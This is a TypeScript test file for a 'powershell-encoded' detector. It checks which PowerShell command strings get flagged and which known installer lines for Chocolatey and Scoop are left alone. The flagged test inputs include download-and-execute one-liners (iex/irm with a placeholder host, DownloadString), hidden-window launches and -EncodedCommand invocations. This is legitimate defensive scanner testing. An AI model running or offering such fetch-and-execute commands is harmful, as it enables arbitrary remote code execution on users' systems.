import { describe, expect, it } from 'vitest';
import { fileHits } from '../../../test/support/file-view.ts';
import detector from './powershell-encoded.ts';

describe('powershell-encoded', () => {
  const encoded = Buffer.from('Write-Output "nothing at all, really nothing"', 'utf16le').toString('base64');
  it.each([
    ['a.cmd', `powershell -NoProfile -enc ${encoded}`, 'strong@1'],
    ['a.js', `exec("powershell.exe -w hidden -EncodedCommand ${encoded}")`, 'strong@1'],
    ['a.ps1', 'iex (iwr https://a.invalid/x)', 'strong@1'],
    ['a.ps1', 'irm https://a.invalid/x | iex', 'strong@1'],
    ['a.ps1', "IEX (New-Object Net.WebClient).DownloadString('https://a.invalid/x')", 'strong@1'],
    ['a.ps1', '(iwr https://get.scoop.sh -o a); iex (iwr https://a.invalid/x)', 'strong@1'],
    ['a.ps1', 'iex (iwr http://get.scoop.sh)', 'strong@1'],
    ['a.bat', 'powershell -WindowStyle Hidden -File x.ps1', 'weak@1'],
  ])('%s: %s', (file, text, expected) => {
    expect(fileHits(detector, file, text)).toEqual([expected]);
  });
  it.each([
    ['README.md', 'irm https://a.invalid/install.ps1 | iex'],
    ['a.js', 'spawn("powershell", ["-EncodedCommand", encode(command)])'],
    ['a.ps1', "iex ((New-Object System.Net.WebClient).DownloadString('https://community.chocolatey.org/install.ps1'))"],
    ['a.ps1', 'irm get.scoop.sh | iex; irm https://get.scoop.sh | iex'],
    ['a.ps1', 'Invoke-WebRequest https://a.invalid/x -OutFile x.zip'],
  ])('leaves %s: %s alone', (file, text) => {
    expect(fileHits(detector, file, text)).toEqual([]);
  });
});
